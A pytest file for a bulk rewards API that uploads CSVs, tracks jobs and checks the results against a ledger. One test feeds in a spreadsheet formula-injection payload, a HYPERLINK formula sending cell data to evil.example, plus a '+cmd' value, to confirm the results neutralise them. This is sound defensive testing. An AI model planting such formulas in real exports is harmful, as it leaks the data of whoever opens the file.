"""Bulk rewards over HTTP: CSV in, progress, CSV out that matches the ledger."""

from __future__ import annotations

import asyncio
import csv
import io
import time
from typing import Any

import pytest

from tests.conftest import Cluster

BULK = "/api/v1/rewards/bulk"


async def upload(cluster: Cluster, text: str, key: str | None = None, **params: str) -> Any:
    headers = {**cluster.keys.headers("acme"), "Content-Type": "text/csv"}
    if key:
        headers["Idempotency-Key"] = key
    body = io.BytesIO(text.encode())
    async with cluster.client.post(BULK, data=body, params=params, headers=headers) as r:
        return r.status, await r.json(content_type=None)


async def wait_done(cluster: Cluster, job_id: str, timeout_s: float = 180) -> dict[str, Any]:
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        async with cluster.client.get(
            f"{BULK}/{job_id}", headers=cluster.keys.headers("acme")
        ) as r:
            job: dict[str, Any] = await r.json()
        if job["status"] == "done":
            return job
        await asyncio.sleep(0.2)
    raise AssertionError("the job did not finish")


async def results(cluster: Cluster, job_id: str) -> list[dict[str, str]]:
    async with cluster.client.get(
        f"{BULK}/{job_id}/results", headers=cluster.keys.headers("acme")
    ) as r:
        assert r.status == 200
        assert r.content_type == "text/csv"
        return list(csv.DictReader(io.StringIO(await r.text())))


async def check(cluster: Cluster, rows: list[dict[str, str]], budget: int) -> None:
    wallets: dict[str, int] = {}
    for row in rows:
        if row["status"] == "ok":
            wallets[row["person_id"]] = wallets.get(row["person_id"], 0) + int(row["points"])
    spent = sum(wallets.values())
    assert await cluster.ledger.account_balance("acme", "budget:b1") == budget - spent
    for person, points in list(wallets.items())[:100]:
        assert await cluster.ledger.account_balance("acme", f"wallet:{person}") == points
    assert await cluster.ledger.entries_total("acme") == 0


async def test_csv_in_results_out(cluster: Cluster) -> None:
    await cluster.open_budget("acme", "b1", 1_000)
    text = "person_id,points,memo\nann,300,welcome\nbob,400,\nbad id!,5,\nann,400,too much\n"
    status, job = await upload(cluster, text, key="upload-1", budget_id="b1")
    assert status == 202
    assert job["total"] == 4
    done = await wait_done(cluster, job["id"])
    assert (done["succeeded"], done["failed"]) == (2, 2)
    rows = await results(cluster, job["id"])
    assert [(r["row"], r["status"], r["reason"]) for r in rows] == [
        ("0", "ok", ""),
        ("1", "ok", ""),
        ("2", "failed", "invalid_request"),
        ("3", "failed", "insufficient_funds"),
    ]
    assert rows[0]["reward_id"] == f"{job['id']}:0"
    await check(cluster, rows, 1_000)
    again_status, again = await upload(cluster, text, key="upload-1", budget_id="b1")
    assert again_status == 202
    assert again["id"] == job["id"]  # a retried upload finds its job, nothing twice
    await check(cluster, await results(cluster, job["id"]), 1_000)


async def test_results_never_hand_a_spreadsheet_a_formula(cluster: Cluster) -> None:
    """A person id uploaded as a formula fails (no such id), and comes back in the
    results as text: a spreadsheet opening them runs nothing."""
    await cluster.open_budget("acme", "b1", 1_000)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    text = f'person_id,points\n"{formula.replace(chr(34), chr(34) * 2)}",5\n+cmd,3\nann,1\n'
    status, job = await upload(cluster, text, budget_id="b1")
    assert status == 202
    await wait_done(cluster, job["id"])
    rows = await results(cluster, job["id"])
    assert [(r["person_id"], r["status"]) for r in rows] == [
        ("'" + formula, "failed"),
        ("'+cmd", "failed"),
        ("ann", "ok"),
    ]


async def test_bad_uploads_are_refused(cluster: Cluster) -> None:
    for text, params in (
        ("name,points\nann,1\n", {"budget_id": "b1"}),
        ("person_id,points\nann,many\n", {"budget_id": "b1"}),
        ("person_id,points\n", {"budget_id": "b1"}),
        ("person_id,points\nann,1\n", {}),
        # each row within one reward's limit, the whole past a job's
        ("person_id,points\nann,9007199254740992\nbob,1\n", {"budget_id": "b1"}),
    ):
        status, body = await upload(cluster, text, **params)
        assert status == 422, (text, body)
        assert body["code"] == "invalid_request"
    assert body["errors"][0]["pointer"] == "#/1/points"
    async with cluster.client.get(f"{BULK}/bulk_nope", headers=cluster.keys.headers("acme")) as r:
        assert r.status == 404


@pytest.mark.slow
@pytest.mark.parametrize("ledger_url", ["sqlite"], indirect=True)  # MariaDB runs the others
async def test_one_hundred_thousand_rewards(cluster: Cluster) -> None:
    budget = 10**9
    await cluster.open_budget("acme", "b1", budget)
    lines = ["person_id,points"] + [f"person-{i % 20_000},{1 + i % 50}" for i in range(100_000)]
    started = time.monotonic()
    status, job = await upload(cluster, "\n".join(lines) + "\n", budget_id="b1")
    assert status == 202, job
    done = await wait_done(cluster, job["id"])
    elapsed = time.monotonic() - started
    assert (done["total"], done["succeeded"], done["failed"]) == (100_000, 100_000, 0)
    rows = await results(cluster, job["id"])
    assert len(rows) == 100_000
    assert {r["status"] for r in rows} == {"ok"}
    await check(cluster, rows, budget)
    print(f"100,000 rewards in {elapsed:.1f} s ({100_000 / elapsed:,.0f}/s)")
